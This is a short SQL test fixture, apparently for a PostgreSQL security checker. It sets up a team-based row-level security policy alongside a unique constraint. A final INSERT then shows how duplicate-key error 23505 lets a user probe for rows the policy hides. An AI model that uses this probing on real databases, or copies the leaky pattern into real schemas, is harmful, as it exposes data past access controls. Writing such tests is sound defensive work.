-- finding: unique-probing shop.orders constraint orders_item_key
CREATE TABLE shop.memberships (team int, person text);
INSERT INTO shop.memberships VALUES (1, 'alice@example.com'), (2, 'bob@example.com');
CREATE FUNCTION shop.teams() RETURNS SETOF int STABLE SECURITY DEFINER SET search_path = pg_catalog, pg_temp LANGUAGE sql
  AS $$ SELECT team FROM shop.memberships WHERE person = session_user $$;
ALTER TABLE shop.orders ADD team int, ADD UNIQUE (item);
UPDATE shop.orders SET team = id;
DROP POLICY own ON shop.orders;
CREATE POLICY team ON shop.orders USING (EXISTS (SELECT FROM shop.teams() mine WHERE mine = team));
-- leak as alice@example.com by error 23505
INSERT INTO shop.orders (item, team) VALUES ('secret', 1);
